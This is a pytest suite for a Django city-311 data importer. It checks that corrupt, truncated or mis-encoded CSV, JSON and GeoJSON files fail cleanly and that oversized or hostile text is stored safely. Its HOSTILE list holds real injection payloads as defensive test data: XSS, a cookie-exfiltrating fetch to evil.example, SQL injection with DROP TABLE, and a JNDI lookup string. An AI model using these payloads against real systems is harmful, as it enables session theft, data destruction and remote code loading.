"""A malformed file fails cleanly and leaves nothing behind: no requests, no catalog rows,
no jurisdiction, and an import run recorded as failed with the error. Rows with odd values
(oversized, hostile text) are stored as text or refused; they never crash the import.

The broken files are made in tmp_path from real Boston records (../shared/data)."""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from civic311.audit.models import AuditEvent
from civic311.cases.models import ServiceRequest
from civic311.catalog.models import Department, Queue, ServiceType
from civic311.imports.models import ImportRun
from civic311.imports.records import MalformedFile
from civic311.imports.writer import RequestWriter
from civic311.places.models import District, DistrictLayer, Jurisdiction
from civic311.places.profiles import load_profile
from civic311.places.services import ensure_jurisdiction

from .helpers import run_import

pytestmark = [pytest.mark.django_db, pytest.mark.shared_data]



# --- material ------------------------------------------------------------------------------


def boston(shared_data: Path, name: str) -> Path:
    return shared_data / "boston" / name


def csv_records(path: Path, count: int) -> tuple[list[str], list[list[str]]]:
    """The header and the first `count` records of a (gzipped) CSV."""
    with gzip.open(path, "rt", encoding="utf-8-sig", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        return header, [next(reader) for _ in range(count)]


def csv_text(header: list[str], records: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(records)
    return out.getvalue()


def jsonl_lines(shared_data: Path, count: int) -> list[str]:
    """The first `count` lines of Boston's Open311 archive (one request object a line)."""
    with gzip.open(boston(shared_data, "boston_open311_2008-2016.jsonl.gz"), "rt", encoding="utf-8") as fh:
        return [next(fh).rstrip("\n") for _ in range(count)]


@pytest.fixture
def records_2025(shared_data: Path) -> tuple[list[str], list[list[str]]]:
    """Header and first 700 records of the 2025 export: one record a line, no newlines inside."""
    header, records = csv_records(boston(shared_data, "boston_311_2025_sample.csv.gz"), 700)
    assert not any("\n" in value for record in records for value in record)
    return header, records


def catalog() -> tuple[int, int, int]:
    return ServiceType.objects.count(), Department.objects.count(), Queue.objects.count()


def import_fails(path: Path, source_format: str, **kwargs: Any) -> MalformedFile:
    """Import `path`, expect MalformedFile, check nothing is left, return the error."""
    before = catalog()
    with pytest.raises(MalformedFile) as failure:
        run_import(path, source_format, **kwargs)
    error = failure.value
    assert not ServiceRequest.objects.exists()
    assert catalog() == before
    assert not Jurisdiction.objects.exists()  # created inside the import's transaction
    assert not AuditEvent.objects.filter(action="import.completed").exists()
    run = ImportRun.objects.get()
    assert run.outcome == ImportRun.Outcome.FAILED
    assert run.error == str(error) and str(path) in run.error
    assert run.finished_at is not None
    assert (run.created, run.updated, run.rejected) == (0, 0, 0)
    return error


# --- request files -------------------------------------------------------------------------


def test_truncated_gzip_fails_cleanly(shared_data: Path, tmp_path: Path) -> None:
    data = boston(shared_data, "boston_311_2025_sample.csv.gz").read_bytes()
    path = tmp_path / "boston_311_2025_half.csv.gz"
    path.write_bytes(data[: len(data) // 2])

    error = import_fails(path, "boston-csv")

    assert "truncated or corrupt file" in error.message
    assert error.line is not None and error.line > 1  # hundreds of good records came first


def test_csv_truncated_inside_a_quoted_multiline_field_fails_naming_the_record_line(
    records_2025: tuple[list[str], list[list[str]]], tmp_path: Path
) -> None:
    header, records = records_2025
    records = [list(r) for r in records[:30]]
    notes = header.index("closure_reason")
    records[19][notes] = "Case Closed Case Resolved\nreplaced 100 amp fuse\nreset breaker"
    text = csv_text(header, records)
    cut = text.index("replaced 100 amp fuse\nres") + len("replaced 100 amp fuse\nres")
    path = tmp_path / "multiline_truncated.csv"
    path.write_text(text[:cut], encoding="utf-8")

    error = import_fails(path, "boston-csv")

    assert error.line == 21  # header + 19 one-line records, then the 20th starts
    assert "unexpected end of data" in error.message


def test_csv_truncated_inside_the_quoted_last_column_fails(shared_data: Path, tmp_path: Path) -> None:
    header, records = csv_records(boston(shared_data, "boston_311_2015_by_type_partial.csv.gz"), 100)
    text = csv_text(header, records)
    assert text.rstrip().endswith('"(42.3669, -71.0524)"')
    path = tmp_path / "boston_2015_cut.csv"
    path.write_text(text[: text.rindex('"(42.3669') + len('"(42.3')], encoding="utf-8")

    import_fails(path, "boston-csv")


def test_multiline_field_is_kept_and_later_rows_are_counted_by_record(
    records_2025: tuple[list[str], list[list[str]]], tmp_path: Path
) -> None:
    """The control for the truncation tests: the same field, complete, imports fine."""
    header, records = records_2025
    records = [list(r) for r in records[:30]]
    notes, opened = header.index("closure_reason"), header.index("open_dt")
    records[19][notes] = "Case Closed Case Resolved\nreplaced 100 amp fuse\nreset breaker"
    records[20][opened] = "not a date"
    path = tmp_path / "multiline.csv"
    path.write_text(csv_text(header, records), encoding="utf-8")

    summary = run_import(path, "boston-csv")

    assert (summary.rows_read, summary.created, summary.rejected) == (30, 29, 1)
    stored = ServiceRequest.objects.get(public_id=records[19][0])
    assert stored.status_notes == "Case Closed Case Resolved\nreplaced 100 amp fuse\nreset breaker"
    assert summary.rejects[0].line == 24  # record 21 starts on line 24: record 20 spans 21-23
    assert summary.rejects[0].field == "open_dt"


def _with_bad_bytes(lines: list[bytes], line_no: int, anchor: bytes = b",Open,") -> bytes:
    """The lines with "Café" in Windows-1252 (byte E9, not UTF-8) put after `anchor` on line_no."""
    lines = list(lines)
    lines[line_no - 1] = lines[line_no - 1].replace(anchor, anchor + "Caf\u00e9 ".encode("cp1252"), 1)
    assert b"\xe9" in lines[line_no - 1]
    return b"\n".join(lines) + b"\n"


@pytest.fixture
def mis_encoded_csv(records_2025: tuple[list[str], list[list[str]]], tmp_path: Path) -> Path:
    """700 records; line 80 holds a cp1252 "é" (an export saved as Windows-1252)."""
    header, records = records_2025
    lines = csv_text(header, records[:100]).encode("utf-8").split(b"\n")[:-1]
    path = tmp_path / "cp1252.csv"
    path.write_bytes(_with_bad_bytes(lines, 80))
    return path


def test_mis_encoded_csv_fails_cleanly(mis_encoded_csv: Path) -> None:
    error = import_fails(mis_encoded_csv, "boston-csv")

    assert "not UTF-8 text" in error.message


def test_mis_encoded_csv_error_names_the_line(mis_encoded_csv: Path) -> None:
    error = import_fails(mis_encoded_csv, "boston-csv")

    assert error.line == 80


def test_mis_encoded_jsonl_error_names_the_line(shared_data: Path, tmp_path: Path) -> None:
    lines = [line.encode("utf-8") for line in jsonl_lines(shared_data, 100)]
    path = tmp_path / "cp1252.jsonl"
    path.write_bytes(_with_bad_bytes(lines, 60, b'"address": "'))

    error = import_fails(path, "open311-json")

    assert "not UTF-8 text" in error.message
    assert error.line == 60


def test_random_bytes_in_a_jsonl_fail_cleanly(shared_data: Path, tmp_path: Path) -> None:
    lines = [line.encode("utf-8") for line in jsonl_lines(shared_data, 100)]
    lines.insert(60, bytes(range(128, 256)))
    path = tmp_path / "garbage.jsonl"
    path.write_bytes(b"\n".join(lines))

    error = import_fails(path, "open311-json")

    assert "not UTF-8 text" in error.message


def test_csv_with_another_citys_columns_fails_naming_the_missing_columns(
    shared_data: Path,
) -> None:
    path = shared_data / "nyc" / "nyc311_pyboot_sample.csv.gz"
    with gzip.open(path, "rt", encoding="utf-8-sig", newline="") as fh:
        nyc_columns = {c.strip().lower() for c in next(csv.reader(fh))}
    boston_columns = ["case_enquiry_id", "open_dt", "closed_dt", "case_status", "type", "latitude", "longitude"]
    missing = [c for c in boston_columns if c not in nyc_columns]
    assert missing[0] == "case_enquiry_id" and "latitude" not in missing

    error = import_fails(path, "boston-csv")

    assert error.line == 1 and error.field == "case_enquiry_id"
    assert f"missing column(s) {', '.join(missing)}" in error.message
    assert "--format" in error.message


@pytest.mark.parametrize(
    ("name", "source_format", "message"),
    [
        ("empty.csv", "boston-csv", "the file is empty"),
        ("empty.csv.gz", "boston-csv", "the file is empty"),
        ("empty.json", "open311-json", "invalid or truncated JSON"),
    ],
)
def test_empty_file_fails_cleanly(tmp_path: Path, name: str, source_format: str, message: str) -> None:
    path = tmp_path / name
    if name.endswith(".gz"):
        with gzip.open(path, "wb"):
            pass
    else:
        path.write_bytes(b"")

    error = import_fails(path, source_format)

    assert message in error.message


def test_truncated_json_array_fails_naming_the_line(shared_data: Path, tmp_path: Path) -> None:
    objects = [json.loads(line) for line in jsonl_lines(shared_data, 50)]
    text = json.dumps(objects, indent=1)
    cut = text[: len(text) // 2]
    path = tmp_path / "requests.json"
    path.write_text(cut, encoding="utf-8")

    error = import_fails(path, "open311-json")

    assert "invalid or truncated JSON" in error.message
    assert error.line is not None and error.line > 1
    assert error.line >= cut.count("\n") - 1  # the end of what is there, not line 1


def test_jsonl_with_a_broken_line_fails_naming_it(shared_data: Path, tmp_path: Path) -> None:
    lines = jsonl_lines(shared_data, 40)
    lines[36] = lines[36][: len(lines[36]) // 2]
    path = tmp_path / "broken.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    error = import_fails(path, "open311-json")

    assert error.line == 37
    assert "invalid JSON" in error.message


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ({"type": "FeatureCollection", "features": []}, "no list of service requests found"),
        ({"requests": {"count": 0}}, "no list of service requests found"),
        ([1, 2, 3], "expected a service request object"),
        ([["101000001849", "closed"]], "expected a service request object"),
        ("just a string", "Expecting value"),
        (42, "no list of service requests found"),
    ],
)
def test_json_that_is_not_a_list_of_requests_fails_cleanly(tmp_path: Path, document: Any, message: str) -> None:
    path = tmp_path / "not_requests.json"
    path.write_text(json.dumps(document), encoding="utf-8")

    error = import_fails(path, "open311-json")

    assert message in error.message


def test_failure_after_several_batches_leaves_nothing_imported(
    records_2025: tuple[list[str], list[list[str]]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    header, records = records_2025
    lines = csv_text(header, records).encode("utf-8").split(b"\n")[:-1]
    assert len(lines) == 701
    path = tmp_path / "fails_at_line_650.csv"
    path.write_bytes(_with_bad_bytes(lines, 650))
    written: list[int] = []
    insert = RequestWriter.insert

    def spy(self: RequestWriter, rows: Any) -> None:
        insert(self, rows)
        written.append(len(rows))

    monkeypatch.setattr(RequestWriter, "insert", spy)

    error = import_fails(path, "boston-csv", batch_size=100)

    # Rows were written in batches of 100 before the bad line was reached...
    assert len(written) >= 5 and sum(written) >= 500 and set(written) == {100}
    # ...and import_fails checked that none of them (nor their catalog rows) remain.
    assert "not UTF-8 text" in error.message


def test_oversized_address_and_type_name_are_clipped(
    records_2025: tuple[list[str], list[list[str]]], tmp_path: Path
) -> None:
    header, records = records_2025
    rows = [list(r) for r in records[:3]]
    rows[1][header.index("location")] = "1 Long St " * 1000
    rows[1][header.index("type")] = "Pothole " + "x" * 10_000
    rows[1][header.index("case_title")] = "Deep hole " + "y" * 10_000
    path = tmp_path / "oversized.csv"
    path.write_text(csv_text(header, rows), encoding="utf-8")

    summary = run_import(path, "boston-csv")

    assert (summary.created, summary.rejected) == (3, 0)
    stored = ServiceRequest.objects.select_related("service_type").get(public_id=rows[1][0])
    assert len(stored.address) == 300 and stored.address.startswith("1 Long St 1 Long St")
    assert stored.address.endswith("…")
    assert len(stored.service_type.name) == 200 and stored.service_type.name.startswith("Pothole xxx")
    assert len(stored.service_type.code) <= 100
    assert stored.description == rows[1][header.index("case_title")]  # text fields keep it all


@pytest.mark.parametrize("column", ["department", "case_enquiry_id"])
def test_oversized_department_or_case_id_is_clipped_or_rejected(
    records_2025: tuple[list[str], list[list[str]]], tmp_path: Path, column: str
) -> None:
    header, records = records_2025
    rows = [list(r) for r in records[:3]]
    rows[1][header.index(column)] = "Q" * 10_000
    path = tmp_path / "oversized.csv"
    path.write_text(csv_text(header, rows), encoding="utf-8")

    summary = run_import(path, "boston-csv")

    assert summary.created + summary.rejected == 3
    assert all(len(code) <= 40 for code in Department.objects.values_list("code", flat=True))
    assert all(len(i) <= 64 for i in ServiceRequest.objects.values_list("public_id", flat=True))
    assert all(len(a) <= 200 for a in ServiceRequest.objects.values_list("agency_responsible", flat=True))


HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "Robert'); DROP TABLE cases_servicerequest;--",
    "1' OR '1'='1",
    "%s %(name)s {0} ${jndi:ldap://evil.example/a}",
    "\\x00 \\N \\. back\\slash\ttab",
]


def test_hostile_text_is_stored_verbatim_as_plain_text(shared_data: Path, tmp_path: Path) -> None:
    objects = [json.loads(line) for line in jsonl_lines(shared_data, len(HOSTILE))]
    for obj, text in zip(objects, HOSTILE, strict=True):
        obj["description"] = text
        obj["status_notes"] = text
        obj["address"] = text
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps(o) + "\n" for o in objects), encoding="utf-8")

    summary = run_import(path, "open311-json")

    assert (summary.created, summary.rejected) == (len(HOSTILE), 0)
    for obj, text in zip(objects, HOSTILE, strict=True):
        stored = ServiceRequest.objects.get(public_id=obj["service_request_id"])
        assert (stored.description, stored.status_notes, stored.address) == (text, text, text)
    assert ServiceRequest.objects.count() == len(HOSTILE)  # the table is still there

    again = run_import(path, "open311-json")  # and the content hash is stable
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(HOSTILE))


def test_nul_character_in_a_description_does_not_crash_the_import(shared_data: Path, tmp_path: Path) -> None:
    objects = [json.loads(line) for line in jsonl_lines(shared_data, 3)]
    objects[1]["description"] = "before\u0000after"
    path = tmp_path / "nul.jsonl"
    path.write_text("".join(json.dumps(o) + "\n" for o in objects), encoding="utf-8")

    summary = run_import(path, "open311-json")

    assert summary.created + summary.rejected == 3
    stored = ServiceRequest.objects.filter(public_id=objects[1]["service_request_id"]).first()
    assert stored is None or stored.description.replace("\u0000", "") == "beforeafter"


def test_refused_import_for_another_city_is_recorded_as_a_failed_run(shared_data: Path) -> None:
    ensure_jurisdiction(load_profile("boston"))
    path = shared_data / "open311" / "chicago_requests_extended_2014.json"

    with pytest.raises(Exception, match="cannot load data for Chicago"):
        run_import(path, "open311-json", profile="chicago")

    assert not ServiceRequest.objects.exists()
    run = ImportRun.objects.get()
    assert run.outcome == ImportRun.Outcome.FAILED
    assert "cannot load data for Chicago" in run.error


# --- district layers -----------------------------------------------------------------------


def _square(lat: float, long: float) -> dict[str, Any]:
    ring = [[long, lat], [long + 0.01, lat], [long + 0.01, lat + 0.01], [long, lat + 0.01], [long, lat]]
    return {"type": "Polygon", "coordinates": [ring]}


def _geojson_cases(shared_data: Path) -> Iterator[tuple[str, str, list[str], str]]:
    """(id, file text, extra command arguments, expected message) of broken GeoJSON files."""
    real = boston(shared_data, "boston_neighborhoods.geojson").read_text(encoding="utf-8")
    yield "truncated", real[: len(real) // 2], [], "invalid or truncated JSON"
    document = json.loads(real)
    single = document["features"][0]
    yield "a single feature", json.dumps(single), [], "expected a GeoJSON FeatureCollection"
    yield "a list", json.dumps(document["features"]), [], "expected a GeoJSON FeatureCollection"
    points = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"Name": "City Hall"},
                "geometry": {"type": "Point", "coordinates": [-71.0587, 42.3594]},
            }
        ],
    }
    yield "a point feature", json.dumps(points), [], "feature 1 is not a polygon"
    del document["features"][2]["properties"]["Name"]
    yield (
        "a feature without the name field",
        json.dumps(document),
        ["--name-field", "Name"],
        "feature 3 has no property 'Name'; it has Acres, Neighborhood_ID, OBJECTID",
    )
    empty = {"type": "FeatureCollection", "features": []}
    yield "no features", json.dumps(empty), [], "no features in the file"
    no_name = {
        "type": "FeatureCollection",
        "features": [{"type": "Feature", "properties": {"id": 1}, "geometry": _square(42.3, -71.1)}],
    }
    yield "a feature with no name at all", json.dumps(no_name), [], "feature 1 has no name"


GEOJSON_CASES = [
    "truncated",
    "a single feature",
    "a list",
    "a point feature",
    "a feature without the name field",
    "no features",
    "a feature with no name at all",
]


@pytest.mark.parametrize("case", GEOJSON_CASES)
def test_broken_geojson_fails_cleanly_through_the_command(shared_data: Path, tmp_path: Path, case: str) -> None:
    text, extra, message = next((t, e, m) for i, t, e, m in _geojson_cases(shared_data) if i == case)
    path = tmp_path / "neighborhoods.geojson"
    path.write_text(text, encoding="utf-8")

    with pytest.raises(CommandError) as failure:
        call_command("import_data", str(path), "--profile", "boston", *extra, stdout=io.StringIO())

    assert str(failure.value).startswith(f"Nothing imported from {path}: ")
    assert message in str(failure.value)
    assert not DistrictLayer.objects.exists() and not District.objects.exists()
    assert not Jurisdiction.objects.exists()


@pytest.mark.parametrize("features", [["not a feature"], None])
def test_geojson_with_non_object_features_fails_cleanly(tmp_path: Path, features: Any) -> None:
    path = tmp_path / "odd.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")

    with pytest.raises(CommandError, match="Nothing imported from"):
        call_command("import_data", str(path), "--profile", "boston", stdout=io.StringIO())
